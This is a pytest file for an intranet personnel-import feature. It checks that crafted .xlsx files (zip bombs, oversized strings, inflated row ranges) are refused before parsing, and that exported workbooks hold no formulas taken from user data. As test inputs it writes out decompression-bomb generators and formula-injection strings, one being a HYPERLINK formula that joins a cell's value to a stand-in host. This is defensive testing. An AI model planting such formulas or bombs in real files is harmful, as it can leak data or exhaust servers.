"""The safe spreadsheet reader and writer: crafted .xlsx files are refused before openpyxl parses
them, and no workbook the system writes holds a formula that came from user data."""
import io
import os
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from intranet.cli import cli
from intranet.imports import get_import_kind, run_import
from intranet.models import Person
from intranet.spreadsheets import Limits, WorkbookWriter, reading
from intranet.testing import login, make_id, xlsx_bytes

PEOPLE_HEADER = ["姓名", "身份证号", "单位编码", "职务", "编制类型", "执法岗位", "人员状态", "状态变更日期", "法律职业资格"]
FORMULA_NAME = '=HYPERLINK("http://x"&B3,"点此核对")'
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOC_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.fixture
def app_config(tmp_path):
    return {"UPLOAD_FOLDER": str(tmp_path / "uploads")}


@pytest.fixture
def parser_calls(monkeypatch):
    """Every call of openpyxl's load_workbook by the reader (it still parses what passes the checks)."""
    calls = []
    real = reading.load_workbook

    def spy(*args, **kwargs):
        calls.append(args)
        return real(*args, **kwargs)
    monkeypatch.setattr(reading, "load_workbook", spy)
    return calls


def inline(ref, text):
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()


def header_row(header=PEOPLE_HEADER):
    return b'<row r="1">' + b"".join(inline(f"{chr(65 + i)}1", h) for i, h in enumerate(header)) + b"</row>"


def crafted(rows: bytes, dimension: str | None = None, shared: bytes | None = None, chart_first=False) -> bytes:
    """A minimal hand-made .xlsx: ``rows`` is the XML inside <sheetData>, ``shared`` the <si> items;
    ``chart_first`` puts a chartsheet before the data sheet (openpyxl then reads the second sheet)."""
    dim = f'<dimension ref="{dimension}"/>'.encode() if dimension else b""
    sheet = (f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}">'.encode() + dim
             + b"<sheetData>" + rows + b"</sheetData></worksheet>")
    overrides = ('<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                 'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType='
                 '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>')
    rels = f'<Relationship Id="rId1" Type="{DOC_RELS}/worksheet" Target="worksheets/sheet1.xml"/>'
    if shared is not None:
        overrides += ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                      'officedocument.spreadsheetml.sharedStrings+xml"/>')
        rels += f'<Relationship Id="rId2" Type="{DOC_RELS}/sharedStrings" Target="sharedStrings.xml"/>'
    sheets = '<sheet name="数据" sheetId="1" r:id="rId1"/>'
    if chart_first:
        sheets = '<sheet name="图表" sheetId="2" r:id="rId3"/>' + sheets
        rels += f'<Relationship Id="rId3" Type="{DOC_RELS}/chartsheet" Target="chartsheets/sheet1.xml"/>'
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.'
                   'openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/'
                   'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/'
                   f'xml"/>{overrides}</Types>')
        z.writestr("_rels/.rels", f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{DOC_RELS}/'
                   'officeDocument" Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml", f'<workbook xmlns="{MAIN}" xmlns:r="{DOC_RELS}"><sheets>{sheets}</sheets></workbook>')
        if chart_first:
            z.writestr("xl/chartsheets/sheet1.xml", f'<chartsheet xmlns="{MAIN}"/>')
        z.writestr("xl/_rels/workbook.xml.rels", f'<Relationships xmlns="{RELS}">{rels}</Relationships>')
        z.writestr("xl/worksheets/sheet1.xml", sheet)
        if shared is not None:
            z.writestr("xl/sharedStrings.xml", f'<sst xmlns="{MAIN}">'.encode() + shared + b"</sst>")
    return buf.getvalue()


def person_cells(row, name, number):
    values = [name, number, "X01-A", "科员", "行政编制", "是", "在岗", "", "否"]
    return f'<row r="{row}">'.encode() + b"".join(inline(f"{chr(65 + i)}{row}", v) for i, v in enumerate(values)
                                                  if v) + b"</row>"


def upload(client, data: bytes, dry_run=False):
    form = {"people-file": (io.BytesIO(data), "人员.xlsx")}
    if dry_run:
        form["people-dry_run"] = "y"
    return client.post("/imports/people", data=form, content_type="multipart/form-data")


def people(db):
    db.session.expire_all()
    return db.session.scalar(select(func.count()).select_from(Person))


def test_a_crafted_file_within_the_limits_is_read(client, db, org, parser_calls):
    """The crafted files below are real workbooks: within the limits this one is parsed and imported."""
    data = crafted(header_row() + person_cells(2, "李四", make_id()))
    login(client, org.users["bureau"])
    html = upload(client, data).get_data(as_text=True)
    assert "导入成功" in html and people(db) == 2 and parser_calls


def bomb():
    """A 15 MB sheet of repeated rows that compresses to a few dozen KB."""
    return crafted(header_row() + b"<row><c/></row>" * 1_000_000)


def random_rows(n_bytes):
    rows = []
    for i in range(2, 2 + n_bytes // 60):
        rows.append(f'<row r="{i}">'.encode() + inline(f"A{i}", os.urandom(16).hex()) + b"</row>")
    return header_row() + b"".join(rows)


def shared_string(text: bytes):
    return crafted(header_row(), shared=b"<si><t>" + text + b"</t></si>")


def numbered_rows(n):
    return header_row() + b"".join(b'<row r="%d"/>' % i for i in range(2, n + 2))


def million_empty_rows():
    return crafted(numbered_rows(1_000_000))


CASES = {
    "zip bomb": (bomb, {}, "压缩比异常"),
    "expanded size": (lambda: crafted(random_rows(2 * 1024 * 1024)), {"XLSX_MAX_UNZIPPED_MB": 1}, "文件解压后过大"),
    "enormous shared string": (lambda: shared_string(b"A" * (30 * 1024 * 1024)), {}, "压缩比异常"),
    "large shared strings part": (lambda: shared_string(os.urandom(1024 * 1024).hex().encode()),
                                  {"XLSX_MAX_PART_MB": 1}, "“xl/sharedStrings.xml”过大"),
    "long shared string": (lambda: shared_string("法".encode() * 40_000), {}, "超过 32767 个字符"),
    "long inline string": (lambda: crafted(header_row() + b"<row>" + inline("A2", "法" * 40_000) + b"</row>"),
                           {}, "超过 32767 个字符"),
    "declared range": (lambda: crafted(header_row(), dimension="A1:XFD1048576"), {}, "超过 500 列"),
    "declared rows": (lambda: crafted(header_row(), dimension="A1:I1048576"), {}, "超过 200000 行"),
    "million empty rows": (million_empty_rows, {}, "超过 200000 行"),
    "rows behind a chartsheet": (lambda: crafted(numbered_rows(300_000), chart_first=True), {},
                                 "超过 200000 行"),
    "one far row": (lambda: crafted(header_row() + b"<row r='1048576'/>"), {}, "超过 200000 行"),
    "rows over a lowered cap": (lambda: xlsx_bytes(PEOPLE_HEADER, [["李四", make_id(), "X01-A", "科员", "行政编制", "是",
                                                                    "在岗", None, "否"]] * 10),
                                {"XLSX_MAX_ROWS": 5}, "超过 5 行"),
}


@pytest.mark.parametrize("case", list(CASES))
def test_crafted_file_is_refused_before_parsing(client, app, db, org, parser_calls, case):
    build, config, message = CASES[case]
    data = build()
    app.config.update(config)
    login(client, org.users["bureau"])
    for dry_run in (True, False):
        response = upload(client, data, dry_run=dry_run)
        assert response.status_code == 200
        html = response.get_data(as_text=True)
        assert message in html and "导入失败" in html
    assert parser_calls == []
    assert people(db) == 1


def test_the_refused_files_are_small(app):
    """The point of the checks: what is small on disk may be huge once expanded."""
    assert len(bomb()) < 200 * 1024
    assert len(crafted(header_row(), dimension="A1:XFD1048576")) < 2048 + 1024
    assert len(CASES["enormous shared string"][0]()) < 1024 * 1024


def test_cli_import_is_checked_too(app, db, org, tmp_path, parser_calls, monkeypatch):
    monkeypatch.setenv("FLASK_RUN_FROM_CLI", "false")  # Flask's CLI sets it; undo it afterwards
    runner = app.test_cli_runner()
    path = tmp_path / "people.xlsx"
    path.write_bytes(million_empty_rows())
    result = runner.invoke(cli, ["import", "people", str(path), "--dry-run"])
    assert result.exit_code != 0 and "超过 200000 行" in result.stderr
    result = runner.invoke(cli, ["import", "people", str(path)])
    assert result.exit_code != 0 and "超过 200000 行" in result.stderr
    assert parser_calls == [] and people(db) == 1


@pytest.mark.parametrize("data", [b"this is not a zip file", b"PK\x03\x04 truncated", crafted(b"")[:-30]])
def test_not_an_xlsx(app, db, org, parser_calls, data):
    result = run_import(get_import_kind("people"), io.BytesIO(data))
    assert not result.ok and "不是有效的 .xlsx 文件" in result.errors[0].message
    assert parser_calls == [] and people(db) == 1


@pytest.mark.parametrize("data_rows, refused", [(4, False), (5, False), (6, True)])
def test_the_row_limit_counts_data_rows_not_the_header(app, db, org, data_rows, refused):
    """XLSX_MAX_ROWS = 5: five data rows under the header pass, six are refused, by every check
    (the rows read, the highest row number, the declared range)."""
    app.config.update(XLSX_MAX_ROWS=5)
    rows = [["李四", make_id(), "X01-A", "科员", "行政编制", "是", "在岗", None, "否"] for _ in range(data_rows)]
    result = run_import(get_import_kind("people"), io.BytesIO(xlsx_bytes(PEOPLE_HEADER, rows)), dry_run=True)
    message = "第一个工作表超过 5 行数据（表头行不计），请拆分后分批导入"
    assert (not result.ok and result.errors[0].message == message) if refused else result.ok, result.errors
    last = data_rows + 1
    for data in (crafted(header_row() + b"<row r='%d'/>" % last),
                 crafted(header_row(), dimension=f"A1:I{last}")):
        if refused:
            with pytest.raises(reading.SpreadsheetError, match="超过 5 行数据"):
                reading.check_xlsx(io.BytesIO(data))
        else:
            reading.check_xlsx(io.BytesIO(data))


def test_limits_come_from_the_config(app):
    app.config.update(XLSX_MAX_ROWS=7, XLSX_MAX_UNZIPPED_MB=3, XLSX_MAX_CELL_CHARS=100)
    limits = Limits.from_config()
    assert (limits.max_rows, limits.max_unzipped_bytes, limits.max_cell_chars) == (7, 3 * 1024 * 1024, 100)
    assert Limits.from_config({}) == Limits()


# --- the writer ---------------------------------------------------------------------------

DANGEROUS = [FORMULA_NAME, "=1+1", "+41", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("write_only", [True, False])
def test_writer_stores_text_as_text(write_only):
    writer = WorkbookWriter(write_only=write_only)
    sheet = writer.sheet("测试")
    sheet.append(DANGEROUS + ["普通文本", 42, None])
    sheet.append([sheet.cell("=2+2", number_format="@"), "名字\x01带控制字符"])
    ws = load_workbook(io.BytesIO(writer.save())).worksheets[0]
    first, second = list(ws.iter_rows())[:2]
    assert [c.value for c in first[:len(DANGEROUS)]] == DANGEROUS
    assert all(c.data_type == "s" and c.quotePrefix for c in first[:len(DANGEROUS)])
    assert first[len(DANGEROUS)].data_type == "s" and first[len(DANGEROUS) + 1].value == 42
    assert (second[0].value, second[0].data_type, second[1].value) == ("=2+2", "s", "名字带控制字符")


def test_import_error_report_holds_no_formula(client, db, org):
    """The uploaded text cells (stored as text, as Excel does for a typed '=...) come back as text."""
    import re
    writer = WorkbookWriter()
    sheet = writer.sheet("人员")
    sheet.append(PEOPLE_HEADER)
    sheet.append([FORMULA_NAME, "130821198506120000", "X01-A", "=1+1", "行政编制", "是", "在岗", None, "否"])
    login(client, org.users["bureau"])
    html = upload(client, writer.save()).get_data(as_text=True)
    token = re.search(r"/imports/errors/([0-9a-f]{32})\.xlsx", html).group(1)
    report = client.get(f"/imports/errors/{token}.xlsx")
    ws = load_workbook(io.BytesIO(report.data)).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert FORMULA_NAME in [c.value for c in cells] and "=1+1" in [c.value for c in cells]
    assert people(db) == 1


def test_template_holds_no_formula(client, org):
    login(client, org.users["admin"])
    wb = load_workbook(io.BytesIO(client.get("/imports/people/template.xlsx").data))
    assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)


@pytest.mark.parametrize("row", [b'<row r="2"><c r="A2" t="n"><v>not a number</v></c></row>',
                                 b'<row r="2"><c r="A2" t="inlineStr"><is><t>x</is></c></row>'])
def test_broken_sheet_content_is_a_message(client, db, org, row):
    login(client, org.users["bureau"])
    html = upload(client, crafted(header_row() + row)).get_data(as_text=True)
    assert "无法读取文件" in html and "导入失败" in html
    assert people(db) == 1
